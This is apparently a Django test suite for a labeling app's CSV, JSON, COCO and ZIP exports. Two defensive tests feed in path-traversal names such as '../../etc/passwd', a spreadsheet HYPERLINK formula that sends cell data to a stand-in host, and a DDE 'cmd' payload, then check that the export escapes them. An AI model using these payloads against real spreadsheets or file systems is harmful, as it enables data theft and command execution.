"""Exports: CSV, JSON, COCO and the per-tag ZIP are streamed and hold what was labeled; the
ZIP maps every file back to its tags (labels.csv) and imports back with them."""
from __future__ import annotations

import csv
import io
import json
import zipfile
from collections import Counter
from io import StringIO

import pytest
from django.core.management import call_command
from django.test import Client as HttpClient
from django.urls import reverse

from labeling.models import Asset, Label, ModelVersion, Suggestion, Tag, Taxonomy
from labeling.services import exporting, importing, labels
from tests._helpers import api, make_asset
from tests.conftest import copy_shoes

pytestmark = pytest.mark.django_db


@pytest.fixture(autouse=True)
def fast_passwords(settings):
    settings.PASSWORD_HASHERS = ["django.contrib.auth.hashers.MD5PasswordHasher"]


@pytest.fixture
def labeled(world, lib, monkeypatch):
    monkeypatch.setattr(labels, "request_retrain_check", lambda tid: False)
    labels.save_label(world.brand, lib.assets[0], [lib.tags["nike"]], user=world.olga)
    labels.save_label(world.brand, lib.assets[1], [lib.tags["adidas"]], user=world.alice)
    labels.save_label(world.brand, lib.assets[2], [lib.tags["nike"]])
    return lib


def download(world, kind: str, user=None) -> tuple[int, bytes, object]:
    c = HttpClient()
    c.force_login(user or world.vic)
    r = c.get(reverse("export", args=["acme", world.brand.pk, kind]))
    body = b"".join(r.streaming_content) if getattr(r, "streaming", False) else r.content
    return r.status_code, body, r


def test_csv_lists_each_labeled_asset_with_tags_probabilities_who_and_model(world, labeled):
    status, body, r = download(world, "csv")
    assert status == 200 and r.streaming and r["Content-Type"].startswith("text/csv")
    rows = list(csv.DictReader(io.StringIO(body.decode())))
    assert [(int(x["asset_id"]), x["tags"], x["labeled_by"]) for x in rows] == [
        (labeled.assets[0].pk, "nike", "olga"), (labeled.assets[1].pk, "adidas", "alice"), (labeled.assets[2].pk, "nike", ""),
    ]
    assert rows[0]["model_version"] == "1" and json.loads(rows[0]["probabilities"]) == {"adidas": 0.8, "converse": 0.1, "nike": 0.1}


def test_json_is_one_valid_document_and_can_include_unlabeled_assets(world, labeled):
    _, body, _ = download(world, "json")
    doc = json.loads(body)
    assert doc["model_version"]["version"] == 1 and len(doc["assets"]) == 3
    assert doc["assets"][1]["tags"] == ["adidas"] and doc["assets"][1]["suggested"] == "converse"
    everything = "".join(exporting.stream_json(world.brand, labeled_only=False))
    assert len(json.loads(everything)["assets"]) == 6


def test_coco_has_images_categories_and_one_annotation_per_label(world, labeled):
    _, body, _ = download(world, "coco")
    coco = json.loads(body)
    assert {c["name"] for c in coco["categories"]} == {"adidas", "converse", "nike"}
    assert [i["id"] for i in coco["images"]] == [a.pk for a in labeled.assets[:3]]
    assert [(a["image_id"], a["category_id"]) for a in coco["annotations"]] == [
        (labeled.assets[0].pk, labeled.tags["nike"]), (labeled.assets[1].pk, labeled.tags["adidas"]),
        (labeled.assets[2].pk, labeled.tags["nike"]),
    ]


def test_zip_sorts_images_into_one_folder_per_tag_with_their_bytes(world, labeled):
    status, body, r = download(world, "zip")
    assert status == 200 and r["Content-Type"] == "application/zip"
    with zipfile.ZipFile(io.BytesIO(body)) as zf:
        assert zf.testzip() is None
        names = sorted(n for n in zf.namelist() if n != "labels.csv")
        assert names == sorted([
            f"brand/nike/{labeled.assets[0].pk}-img-0.png", f"brand/adidas/{labeled.assets[1].pk}-img-1.png",
            f"brand/nike/{labeled.assets[2].pk}-img-2.png",
        ])
        assert zf.read(names[0]) == labeled.assets[1].file.open("rb").read()


def test_the_zip_is_streamed_in_pieces_not_built_whole(world, labeled, monkeypatch):
    monkeypatch.setattr(exporting, "CHUNK", 16)
    pieces = [p for p in exporting.stream_zip(world.brand) if p]
    assert len(pieces) > 10 and max(map(len, pieces)) < 400


def test_a_tag_made_and_used_while_the_zip_streams_gets_its_own_folder(world, labeled, monkeypatch):
    from labeling.models import Tag

    monkeypatch.setattr(exporting, "PAGE", 1)  # labels are read page by page as the ZIP streams
    stream = exporting.stream_zip(world.brand)
    body = [next(stream)]  # the tag folders are fixed by now
    vans = Tag.objects.create(taxonomy=world.brand, name="Vans")
    late = Tag.objects.create(taxonomy=world.brand, name="Old Skool", parent=vans)
    labels.save_label(world.brand, labeled.assets[2], [late.pk], user=world.olga)
    body += list(stream)
    with zipfile.ZipFile(io.BytesIO(b"".join(body))) as zf:
        # its own folder (named from the tag, with its id: it was not there when the export began)
        assert f"brand/Old Skool-{late.pk}/{labeled.assets[2].pk}-img-2.png" in zf.namelist()


def test_unsafe_names_cannot_escape_their_folder(world):
    for evil in ("../../etc/passwd", "..", "a\\..\\b", "/abs"):
        name = exporting.safe_name(evil)
        assert "/" not in name and "\\" not in name and name not in ("", ".", "..")


def test_exports_are_404_for_other_clients_and_unknown_kinds(world, labeled):
    assert download(world, "csv", user=world.otto)[0] == 404
    assert download(world, "pdf")[0] == 404


def test_csv_cells_that_start_like_a_formula_open_as_text(world, labeled):
    # Tag and file names come from users and ZIPs: a spreadsheet must not run them.
    lib = labeled
    Tag.objects.filter(pk=lib.tags["nike"]).update(name='=HYPERLINK("http://evil/?"&A1,"x")')
    lib.assets[0].original_name = "+cmd|' /C calc'!A0.png"
    lib.assets[0].save()
    _, body, _ = download(world, "csv")
    rows = list(csv.DictReader(io.StringIO(body.decode())))
    assert rows[0]["file"] == "'+cmd|' /C calc'!A0.png"
    assert rows[0]["tags"] == '\'=HYPERLINK("http://evil/?"&A1,"x")'
    assert rows[1]["tags"] == "adidas" and rows[0]["asset_id"] == str(lib.assets[0].pk)  # plain cells untouched


def test_a_non_ascii_taxonomy_name_gives_a_utf8_download_name(world, labeled):
    world.brand.name = "Marke Größe"
    world.brand.save()
    _, _, r = download(world, "csv")
    assert r["Content-Disposition"] == "attachment; filename*=utf-8''acme-Marke_Gr%C3%B6%C3%9Fe.csv"


# --- the ZIP's folders and manifest -----------------------------------------------------------

def zip_of(taxonomy: Taxonomy) -> zipfile.ZipFile:
    return zipfile.ZipFile(io.BytesIO(b"".join(exporting.stream_zip(taxonomy))))


def manifest(zf: zipfile.ZipFile) -> dict[str, dict]:
    return {row["file_in_zip"]: row for row in csv.DictReader(io.StringIO(zf.read("labels.csv").decode()))}


@pytest.fixture
def quiet(monkeypatch):
    monkeypatch.setattr(labels, "request_retrain_check", lambda tid: False)


def test_tags_whose_names_make_the_same_folder_get_their_own_and_labels_csv_maps_each_file_back(
        world, shoe_paths, quiet):
    lang = Taxonomy.objects.create(client=world.acme, name="lang")
    tags = [Tag.objects.create(taxonomy=lang, name=n, position=i) for i, n in enumerate(("C++", "C#", "c_", "Go"))]
    photos = shoe_paths["test"]["nike"][:4]
    assets = [make_asset(world.acme, i, name=f"shots/{p.name}", data=p.read_bytes()) for i, p in enumerate(photos)]
    for asset, tag in zip(assets, tags):
        labels.save_label(lang, asset, [tag.pk])

    with zip_of(lang) as zf:
        rows = manifest(zf)
        cpp, cs, c_, go = tags
        expected = [f"lang/C_-{cpp.pk}", f"lang/C_-{cs.pk}", "lang/c_", "lang/Go"]  # 'c_' and 'Go' name themselves
        assert sorted(rows) == sorted(f"{folder}/{a.pk}-{p.name}" for folder, a, p in zip(expected, assets, photos))
        assert sorted(n for n in zf.namelist() if n != "labels.csv") == sorted(rows)
        for name, row in rows.items():
            asset = Asset.objects.get(pk=row["asset_id"])
            assert zf.read(name) == asset.file.open("rb").read()
            assert row["original_name"] == asset.original_name
            assert (row["tags"], row["tag_ids"]) == (tags[assets.index(asset)].name, str(tags[assets.index(asset)].pk))


def test_a_long_file_name_keeps_its_extension_in_the_zip(world, shoe_paths, quiet):
    photo = shoe_paths["test"]["adidas"][0]
    long_name = "catalogue/" + "summer collection side view " * 8 + "final.jpeg"
    asset = make_asset(world.acme, 1, name=long_name, data=photo.read_bytes())
    labels.save_label(world.brand, asset, [world.brand.tags.get(name="adidas").pk])

    with zip_of(world.brand) as zf:
        [name] = [n for n in zf.namelist() if n != "labels.csv"]
    base = name.rsplit("/", 1)[-1].removeprefix(f"{asset.pk}-")
    assert len(base) == 120 and base.endswith(".jpeg"), "the stem is cut, not the extension"
    assert base.startswith("summer collection side view") and "final" not in base
    assert exporting.safe_name("a." + "x" * 200) == "a." + "x" * 118, "no extension to keep: cut at the end"


def test_an_exported_zip_imports_back_with_the_same_tags(world, shoe_paths, tmp_path, quiet):
    copy_shoes(shoe_paths, tmp_path / "library", per_brand=2)
    importing.import_paths(world.acme, tmp_path / "library", labels_taxonomy=world.brand)
    archive = tmp_path / "acme-brand.zip"
    archive.write_bytes(b"".join(exporting.stream_zip(world.brand)))
    out = StringIO()

    call_command("import_assets", "globex", str(archive), "--labels-from-folders", "brand", stdout=out,
                 stderr=StringIO())

    assert "6 created, 0 duplicates, 0 failed, 6 labeled (of 6 files)" in out.getvalue()
    assert "labels.csv" not in out.getvalue().replace("labels.csv: new tag", ""), "the manifest is ours, not skipped"
    assert tags_by_sha(world.globex, world.other_tax) == tags_by_sha(world.acme, world.brand)


def tags_by_sha(client, taxonomy: Taxonomy) -> dict[str, list[str]]:
    return {lab.asset.sha256: sorted(t.name for t in lab.tags.all())
            for lab in Label.objects.filter(taxonomy=taxonomy, asset__client=client, is_current=True)
            .select_related("asset").prefetch_related("tags")}


def test_a_multi_label_zip_imports_back_with_every_tag_of_each_image(world, shoe_paths, tmp_path, quiet):
    looks = {c: Taxonomy.objects.create(client=c, name="look", kind=Taxonomy.Kind.MULTI)
             for c in (world.acme, world.globex)}
    tags = {n: Tag.objects.create(taxonomy=looks[world.acme], name=n) for n in ("red", "round", "shiny")}
    src = tmp_path / "shots"
    src.mkdir()
    photos = shoe_paths["test"]["converse"][:3]
    for p in photos:
        (src / p.name).write_bytes(p.read_bytes())
    importing.import_paths(world.acme, src)
    wanted = [("red", "round"), ("red",), ("round", "shiny")]
    for p, names in zip(photos, wanted):
        labels.save_label(looks[world.acme], Asset.objects.get(original_name=p.name), [tags[n].pk for n in names])
    archive = tmp_path / "acme-look.zip"
    archive.write_bytes(b"".join(exporting.stream_zip(looks[world.acme])))

    job = importing.import_paths(world.globex, archive, labels_taxonomy=looks[world.globex])

    assert (job.n_created, job.n_duplicates, job.n_labeled) == (3, 2, 3), job.errors
    assert not [e for e in job.errors if e["kind"] == "note" and "kept" in e["error"]], job.errors
    assert tags_by_sha(world.globex, looks[world.globex]) == tags_by_sha(world.acme, looks[world.acme])


# --- the suggested column is the app's suggestion ---------------------------------------------

def api_suggested(world, taxonomy: Taxonomy, asset_id: int) -> list[str]:
    r = api(world.vic).get(f"/api/v1/clients/acme/taxonomies/{taxonomy.pk}/assets/{asset_id}/suggestions/")
    assert r.status_code == 200, r.content
    names = dict(taxonomy.tags.values_list("pk", "name"))
    return sorted(names[t] for t in r.json()["suggested"])


def test_after_a_tag_is_retired_the_suggested_column_is_what_the_app_suggests(world, trained):
    live = world.brand.live_model
    top1 = Counter(Suggestion.objects.filter(model_version=live).values_list("top1_tag", flat=True))
    retired = Tag.objects.get(pk=top1.most_common(1)[0][0])  # the model's favourite, retired
    retired.retired = True
    retired.save()

    rows = list(csv.DictReader(io.StringIO("".join(exporting.stream_csv(world.brand, labeled_only=False)))))

    assert len(rows) == 24
    # The stored rows still favour the retired tag (the rescore task has not run: no commit in
    # this test); the export shows them as that rescore will write them, like the review page.
    assert top1[retired.pk] > 0
    probabilities = [json.loads(r["probabilities"]) for r in rows]
    assert all(p[retired.name] == 0 and sum(p.values()) == pytest.approx(1, abs=1e-4) for p in probabilities)
    assert retired.name not in {r["suggested"] for r in rows}
    for row in rows:
        assert [row["suggested"]] == api_suggested(world, world.brand, int(row["asset_id"]))
        assert float(row["suggested_prob"]) == json.loads(row["probabilities"])[row["suggested"]]


@pytest.fixture
def looks(world):
    """A multi-label taxonomy whose live model suggests the tags over their own thresholds."""
    look = Taxonomy.objects.create(client=world.acme, name="look", kind=Taxonomy.Kind.MULTI)
    tags = [Tag.objects.create(taxonomy=look, name=n, position=i) for i, n in enumerate(("red", "round", "shiny"))]
    mv = ModelVersion.objects.create(taxonomy=look, version=1, backbone="test", artifact="none",
                                     tag_ids=[t.pk for t in tags], metrics={"thresholds": [0.5, 0.3, 0.9]})
    asset = make_asset(world.acme, 7)
    Suggestion.objects.create(asset=asset, taxonomy=look, model_version=mv, probs=[0.6, 0.4, 0.8],
                              top1_tag_id=tags[2].pk, top1_prob=0.8, margin=0.2, entropy=0.9, uncertainty=0.5)
    look.live_model = mv
    look.save(update_fields=["live_model"])
    return look


def test_a_multi_label_export_suggests_every_tag_over_its_threshold_not_the_top_one(world, looks):
    [row] = json.loads("".join(exporting.stream_json(looks, labeled_only=False)))["assets"]
    assert row["suggested"] == ["red", "round"] == api_suggested(world, looks, row["asset_id"])
    assert row["suggested_prob"] == 0.6  # shiny has 0.8, under its threshold of 0.9
    [line] = csv.DictReader(io.StringIO("".join(exporting.stream_csv(looks, labeled_only=False))))
    assert line["suggested"] == "red|round"

    looks.tags.filter(name="red").update(retired=True)
    [row] = json.loads("".join(exporting.stream_json(looks, labeled_only=False)))["assets"]
    assert row["suggested"] == ["round"] == api_suggested(world, looks, row["asset_id"])


def test_the_csv_marks_the_images_the_live_model_was_judged_on_so_its_held_out_accuracy_can_be_recomputed(
        world, shoe_paths, tmp_path, monkeypatch):
    from labeling.models import TrainingRun
    from labeling.services import training

    monkeypatch.setattr(labels, "request_retrain_check", lambda tid: False)
    truth = copy_shoes(shoe_paths, tmp_path / "lib", per_brand=30)
    importing.import_paths(world.acme, tmp_path / "lib")
    tags = {t.name: t.pk for t in world.brand.tags.all()}
    for a in world.acme.assets.all():
        labels.save_label(world.brand, a, [tags[truth[a.original_name]]], world.olga)
    run = training.train_now(world.brand)
    assert run.state == TrainingRun.State.PROMOTED, run.error

    status, body, _ = download(world, "csv")

    rows = list(csv.DictReader(StringIO(body.decode())))
    held = [r for r in rows if r["held_out"] == "True"]
    assert {int(r["asset_id"]) for r in held} == set(run.metrics["holdout_assets"]) and len(held) >= 10
    assert {r["held_out"] for r in rows} == {"True", "False"} and {r["audit"] for r in rows} == {"False"}
    right = sum(r["suggested"] == r["tags"] for r in held)
    assert right / len(held) == pytest.approx(run.metrics["accuracy"]), "the dashboard's held-out accuracy"
